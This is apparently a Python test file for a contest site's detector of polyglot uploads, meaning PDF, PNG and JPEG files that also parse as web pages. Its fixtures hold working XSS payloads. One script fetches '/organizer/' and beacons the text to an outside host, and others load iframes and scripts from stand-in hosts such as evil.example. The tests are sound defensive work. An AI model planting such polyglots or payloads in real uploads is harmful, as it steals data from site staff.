"""Polyglots: files that are both a PDF/PNG/JPEG and a web page are found; real files are not."""
from __future__ import annotations

import io
import random
import struct
import zlib

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import ContentStream, DecodedStreamObject

from contest.files.polyglot import html_marker

PDF_HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def noise_image(size: tuple[int, int], seed: int) -> Image.Image:
    """Random pixels: compressed, they are as close to random bytes as a real file gets."""
    return Image.frombytes("RGB", size, random.Random(seed).randbytes(size[0] * size[1] * 3))


def encoded(image: Image.Image, kind: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_with_text(text: str) -> bytes:
    info = PngInfo()
    info.add_text("Comment", text)
    return encoded(noise_image((32, 32), 4), "PNG", pnginfo=info)


def pdf_with_text(text: bytes, compress: bool) -> bytes:
    """A one-page PDF written by pypdf whose page draws ``text``."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 12 Tf 50 780 Td (" + text + b") Tj ET")
    page.replace_contents(ContentStream(content, writer))
    if compress:
        page.compress_content_streams()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --------------------------------------------------------------------------- polyglots refused

JPEG = encoded(noise_image((32, 32), 1), "JPEG")
PNG = encoded(noise_image((32, 32), 2), "PNG")
PAYLOAD = b"<script>fetch('/organizer/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>"

POLYGLOTS = {
    "pdf, html page in its first bytes": PDF_HEAD + b"%<html><body>" + PAYLOAD + b"\n1 0 obj\n<<>>\nendobj\n%%EOF\n",
    "pdf, doctype after the end marker": pdf_with_text(b"Report", True) + b"\n<!DOCTYPE html>\n<p>hi</p>",
    "pdf, script deep inside a stream": pdf_with_text(b"x" * 100_000 + b"<ScRiPt src=//evil>", False),
    "jpeg, script in a comment segment": encoded(noise_image((32, 32), 3), "JPEG", comment=PAYLOAD),
    "jpeg, page after the image": JPEG + b"<html>" + PAYLOAD + b"</html>",
    "jpeg, iframe after the header": JPEG[:2] + b"\xff\xfe\x00\x20<iframe src=//evil.example>" + JPEG[2:],
    "png, iframe in a text chunk": png_with_text("<IFRAME/src=//evil>"),
    "png, body after a small image": PNG + b"<body onload=alert(1)>",
    "jpeg, iframe after a megabyte": encoded(noise_image((800, 600), 5), "JPEG") + b"<iframe src=//evil>",
    "png, head in a private chunk": PNG[:33] + png_chunk(b"prVt", b"<head><title>x") + PNG[33:],
    "pdf, utf-16le html": PDF_HEAD + "<html><script>alert(1)</script>".encode("utf-16-le"),
    "pdf, utf-16be html": PDF_HEAD + b"\x00" + "<!doctype\thtml>".encode("utf-16-be"),
    "jpeg, doctype split by a line break": JPEG + b"<!DOCTYPE\r\n  HTML>",
}


@pytest.mark.parametrize("data", POLYGLOTS.values(), ids=POLYGLOTS.keys())
def test_a_file_that_is_also_a_web_page_is_found(data):
    assert data[:4] in (b"%PDF", b"\xff\xd8\xff\xe0", b"\xff\xd8\xff\xfe", b"\x89PNG")
    assert html_marker(data) is not None


def test_the_first_tag_is_named_whatever_its_case_or_encoding():
    assert html_marker(b"%PDF-1.4 <BODY>x<script>") == "<body"
    assert html_marker(b"%PDF-1.4 " + "<Script src=x>".encode("utf-16-le")) == "<script"
    assert html_marker(b"%PDF-1.4 <!DocType \n html><html>") == "<!doctype html"


@pytest.mark.parametrize("near_miss", [
    b"<htmlx>", b"<scripting>", b"< html>", b"<body", b"html body script", b"&lt;script&gt;", b"<svgs>",
    "<htmlx>".encode("utf-16-le"), b"<\x00h\x00t\x00m\x00l\x00x\x00",
])
def test_what_is_not_a_tag_to_a_browser_is_not_taken_for_one(near_miss):
    assert html_marker(b"%PDF-1.4\n" + near_miss) is None


def test_page_tags_count_in_the_first_64_kb_and_code_tags_anywhere():
    padding = b"%PDF-1.7\n" + b"x" * (64 * 1024)
    assert html_marker(b"%PDF-1.7\n" + b"x" * 60_000 + b"<body onload=alert(1)>") == "<body"
    assert html_marker(padding + b"<body onload=alert(1)>") is None
    assert html_marker(padding + b"<HTML><BODY onload=alert(1)><SCRIPT>") == "<script"
    assert html_marker(padding + "<iframe/src=x>".encode("utf-16-le")) == "<iframe"


# --------------------------------------------------------------------------- real files accepted

@pytest.mark.parametrize("seed", range(3))
def test_large_photos_of_random_pixels_pass(seed):
    """Several MB of compressed, near-random bytes: a tag name must be followed by its end to count."""
    image = noise_image((1200, 900), seed)
    for data in (encoded(image, "JPEG", quality=95), encoded(image, "PNG")):
        assert len(data) > 700_000
        assert html_marker(data) is None


def test_ordinary_images_and_pdfs_pass():
    drawn = Image.new("RGB", (640, 480), "white")
    drawn.paste((200, 30, 30), (100, 100, 300, 200))
    files = [encoded(drawn, "PNG"), encoded(drawn, "JPEG"), encoded(drawn.convert("L"), "JPEG", progressive=True),
             encoded(drawn, "PDF"), pdf_with_text(b"Solar micro-grid for a village school", True),
             pdf_with_text(b"Quyosh elektr stansiyasi", False)]
    for data in files:
        assert html_marker(data) is None


def test_a_pdf_that_mentions_a_tag_in_compressed_text_passes():
    """No sniffer inflates streams, so neither do we: only what lies in the raw bytes counts."""
    assert html_marker(pdf_with_text(b"We teach <html> and <script> tags", True)) is None
